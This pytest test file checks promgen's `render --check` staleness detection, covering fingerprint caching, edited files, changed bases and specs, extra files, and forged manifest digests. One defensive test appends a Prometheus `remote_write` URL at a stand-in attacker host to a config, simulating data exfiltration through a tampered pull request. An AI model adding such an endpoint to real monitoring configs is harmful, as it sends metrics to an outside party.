"""`render --check` on a DIR that holds exactly the files promgen recorded (outside DIR, promgen.write.cache)
for the same inputs (promgen.write.fingerprint) answers "up to date" without deriving anything; every other
case takes the full comparison, which alone decides what is stale. Nothing in DIR (the manifest, a
file promgen does not write) can make a stale DIR pass."""

from __future__ import annotations

import hashlib
import json
import shutil
from pathlib import Path

import pytest

from promgen.cli import render
from promgen.core.conventions import MANIFEST_FILE
from promgen.core.model import RenderOptions
from promgen.produce import registry as outputs
from promgen.write import fingerprint
from tests.support import ROOT


class Derivations:
    """Counts how often the outputs are derived (the work the shortcut saves)."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.count = 0
        real = outputs.produce_all

        def counted(*args: object, **kwargs: object) -> object:
            self.count += 1
            return real(*args, **kwargs)  # type: ignore[arg-type]

        monkeypatch.setattr(outputs, "produce_all", counted)


@pytest.fixture(autouse=True)
def own_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A cache of this test alone: what a CI runner's fresh home holds."""
    folder = tmp_path / "cache"
    monkeypatch.setenv("PROMGEN_CACHE_DIR", str(folder))
    return folder


@pytest.fixture
def spec(tmp_path: Path) -> Path:
    target = tmp_path / "promgen.yaml"
    shutil.copy(ROOT / "examples" / "promptforge" / "promgen.yaml", target)
    return target


@pytest.fixture
def platform(tmp_path: Path) -> Path:
    """A copy of the platform example: specs extending bases that extend another."""
    target = tmp_path / "platform"
    shutil.copytree(ROOT / "examples" / "platform", target)
    return target


def recorded(out: Path) -> str | None:
    return json.loads((out / MANIFEST_FILE).read_text()).get("inputs")


def planned_files(out: Path) -> int:
    return sum(1 for p in out.rglob("*") if p.is_file() and p.name != MANIFEST_FILE)


def test_check_after_a_render_derives_nothing(spec: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                              capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "out"
    assert render.run([spec], out, quiet=True) == 0
    assert recorded(out) is not None
    derived = Derivations(monkeypatch)
    capsys.readouterr()
    assert render.run([spec], out, check=True) == 0
    assert derived.count == 0
    assert capsys.readouterr().out == f"{out} is up to date ({planned_files(out)} files)\n"


def test_an_edited_file_is_found_by_the_full_comparison(spec: Path, tmp_path: Path,
                                                       monkeypatch: pytest.MonkeyPatch,
                                                       capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "out"
    render.run([spec], out, quiet=True)
    edited = out / "prometheus" / "prometheus.yml"
    edited.write_text(edited.read_text() + "# local edit\n")
    derived = Derivations(monkeypatch)
    capsys.readouterr()
    assert render.run([spec], out, check=True) == 1
    assert derived.count == 1
    assert "-# local edit" in capsys.readouterr().out  # the diff a full comparison prints


def test_a_changed_spec_takes_the_full_comparison(spec: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    out = tmp_path / "out"
    render.run([spec], out, quiet=True)
    spec.write_text(spec.read_text().replace("summary: High error rate detected", "summary: Errors are high"))
    derived = Derivations(monkeypatch)
    assert render.run([spec], out, check=True, quiet=True) == 1
    assert derived.count == 1


def test_other_options_take_the_full_comparison(spec: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    out = tmp_path / "out"
    render.run([spec], out, quiet=True)
    derived = Derivations(monkeypatch)
    assert render.run([spec], out, check=True, quiet=True, options=RenderOptions(time_compression=2)) == 1
    assert derived.count == 1


def test_other_promgen_code_takes_the_full_comparison_and_a_render_records_it(
        spec: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    out = tmp_path / "out"
    render.run([spec], out, quiet=True)
    before = recorded(out)
    monkeypatch.setattr(fingerprint, "code_digest", lambda: "another promgen")
    derived = Derivations(monkeypatch)
    assert render.run([spec], out, check=True, quiet=True) == 0  # same files: up to date, found the long way
    assert derived.count == 1
    assert render.run([spec], out, quiet=True) == 0  # writes no file, but records the new inputs
    assert recorded(out) not in (None, before)
    assert render.run([spec], out, check=True, quiet=True) == 0
    assert derived.count == 2  # the render; the check after it derived nothing


def test_a_partial_render_that_changed_files_makes_the_check_derive(spec: Path, tmp_path: Path,
                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    out = tmp_path / "out"
    render.run([spec], out, quiet=True)
    render.run([spec], out, quiet=True, only=["prometheus"], options=RenderOptions(time_compression=2))
    assert recorded(out) is None
    derived = Derivations(monkeypatch)
    assert render.run([spec], out, check=True, quiet=True) == 1
    assert derived.count == 1


def test_a_changed_base_takes_the_full_comparison(platform: Path, tmp_path: Path,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    out = tmp_path / "out"
    assert render.run([platform], out, quiet=True) == 0
    derived = Derivations(monkeypatch)
    assert render.run([platform], out, check=True, quiet=True) == 0
    assert derived.count == 0
    org = platform / "org.yaml"  # the base of the base most specs extend
    text = org.read_text()
    assert "smarthost: smtp.example.com:587" in text
    org.write_text(text.replace("smarthost: smtp.example.com:587", "smarthost: mail.example.com:587"))
    assert render.run([platform], out, check=True, quiet=True) == 1
    assert derived.count == 1


def test_a_spec_added_to_a_directory_takes_the_full_comparison(platform: Path, tmp_path: Path,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    moved = platform / "pynomaly.yaml"
    kept = tmp_path / "pynomaly.yaml"
    moved.rename(kept)
    out = tmp_path / "out"
    assert render.run([platform], out, quiet=True) == 0
    kept.rename(moved)
    derived = Derivations(monkeypatch)
    assert render.run([platform], out, check=True, quiet=True) == 1
    assert derived.count == 1


def test_a_fresh_cache_takes_the_full_comparison_and_remembers_it(spec: Path, tmp_path: Path, own_cache: Path,
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    out = tmp_path / "out"
    render.run([spec], out, quiet=True)
    shutil.rmtree(own_cache)  # a CI runner that checks out the branch with its committed DIR
    derived = Derivations(monkeypatch)
    assert render.run([spec], out, check=True, quiet=True) == 0
    assert render.run([spec], out, check=True, quiet=True) == 0
    assert derived.count == 1


def forge(out: Path, rel: str, text: str) -> None:
    """What a pull request can do to DIR: change a file and give the manifest its new digest."""
    (out / rel).write_text(text)
    manifest = json.loads((out / MANIFEST_FILE).read_text())
    manifest["files"][rel]["sha256"] = hashlib.sha256(text.encode()).hexdigest()
    (out / MANIFEST_FILE).write_text(json.dumps(manifest))


@pytest.mark.parametrize("cached", [True, False], ids=["cache", "fresh-runner"])
def test_a_changed_file_with_a_forged_manifest_digest_is_stale(cached: bool, spec: Path, tmp_path: Path,
                                                               own_cache: Path,
                                                               capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "out"
    render.run([spec], out, quiet=True)
    if not cached:
        shutil.rmtree(own_cache)
    config = out / "prometheus" / "prometheus.yml"
    forge(out, "prometheus/prometheus.yml",
          config.read_text() + "remote_write:\n- url: https://collector.attacker.example/api/v1/write\n")
    capsys.readouterr()
    assert render.run([spec], out, check=True) == 1
    assert "-- url: https://collector.attacker.example/api/v1/write" in capsys.readouterr().out  # the diff undoes it
    assert render.run([spec], out, check=True, quiet=True) == 1


EXTRAS = {
    "rules": "prometheus/rules/promptforge/zz-extra.rules.yml",
    "dashboard": "grafana/dashboards/zz-extra.json",
    "compose override": "docker-compose.override.yml",
    "beside the manifest": ".promgen-extra",
}


@pytest.mark.parametrize("cached", [True, False], ids=["cache", "fresh-runner"])
@pytest.mark.parametrize("extra", list(EXTRAS.values()), ids=list(EXTRAS))
def test_a_file_promgen_does_not_write_is_reported(extra: str, cached: bool, spec: Path, tmp_path: Path,
                                                   own_cache: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "out"
    render.run([spec], out, quiet=True)
    if not cached:
        shutil.rmtree(own_cache)
    (out / extra).write_text("groups: []\n")
    capsys.readouterr()
    assert render.run([spec], out, check=True) == 1
    err = capsys.readouterr().err
    assert f"extra  {out / extra} (not written by promgen" in err
    assert "1 not promgen's" in err


def test_a_file_in_a_forged_manifest_entry_of_an_opt_in_output_is_reported(spec: Path, tmp_path: Path,
                                                                          capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "out"
    render.run([spec], out, quiet=True)
    extra = "prometheus/rules/promptforge/zz-extra.rules.yml"
    (out / extra).write_text("groups: []\n")
    manifest = json.loads((out / MANIFEST_FILE).read_text())
    manifest["files"][extra] = {"output": "mimir", "sha256": hashlib.sha256(b"groups: []\n").hexdigest()}
    (out / MANIFEST_FILE).write_text(json.dumps(manifest))
    assert render.run([spec], out, check=True, quiet=True) == 1


def test_the_users_own_files_are_kept_by_pattern_and_secrets_always(spec: Path, tmp_path: Path,
                                                                   capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "out"
    render.run([spec], out, quiet=True)
    (out / "secrets" / "slack").write_text("https://hooks.slack.example/services/x\n")
    (out / "README.md").write_text("# our monitoring\n")
    (out / "notes").mkdir()
    (out / "notes" / "a.md").write_text("a\n")
    assert render.run([spec], out, check=True, quiet=True) == 1
    assert render.run([spec], out, check=True, quiet=True, keep=["README.md", "notes/"]) == 0
    assert render.run([spec], out, check=True, quiet=True, keep=["README.md"]) == 1
    capsys.readouterr()
    assert render.run([spec], out, keep=["README.md"]) == 0  # a render leaves them, and says so
    err = capsys.readouterr().err
    assert f"warning: 1 file below {out} that promgen does not write: {out / 'notes/a.md'}" in err
    assert (out / "notes" / "a.md").exists() and (out / "secrets" / "slack").exists()


def test_a_partial_check_answers_for_the_folders_of_its_outputs(spec: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    render.run([spec], out, quiet=True)
    (out / "grafana" / "dashboards" / "zz-extra.json").write_text("{}\n")
    assert render.run([spec], out, check=True, quiet=True, only=["prometheus"]) == 0
    assert render.run([spec], out, check=True, quiet=True, only=["grafana"]) == 1


def test_an_opt_in_output_once_rendered_is_kept_current_and_checked(spec: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    render.run([spec], out, quiet=True)
    render.run([spec], out, quiet=True, only=["mimir"])
    mimir = out / "rulers" / "mimir" / "promptforge.yaml"
    assert mimir.exists()
    assert render.run([spec], out, check=True, quiet=True) == 0
    (out / "rulers" / "mimir" / "other.yaml").write_text("groups: []\n")
    assert render.run([spec], out, check=True, quiet=True) == 1
    (out / "rulers" / "mimir" / "other.yaml").unlink()
    spec.write_text(spec.read_text().replace("summary: High error rate detected", "summary: Errors are high"))
    assert render.run([spec], out, quiet=True) == 0
    assert "Errors are high" in mimir.read_text()  # a complete render keeps it current
    assert render.run([spec], out, check=True, quiet=True) == 0


def test_check_of_a_missing_directory_prints_a_summary(spec: Path, tmp_path: Path,
                                                       capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "never-rendered"
    assert render.run([spec], out, check=True) == 1
    captured = capsys.readouterr()
    assert captured.out == ""
    assert captured.err.startswith(f"{out} is stale: it does not exist, and all ")
    assert len(captured.err.splitlines()) == 1
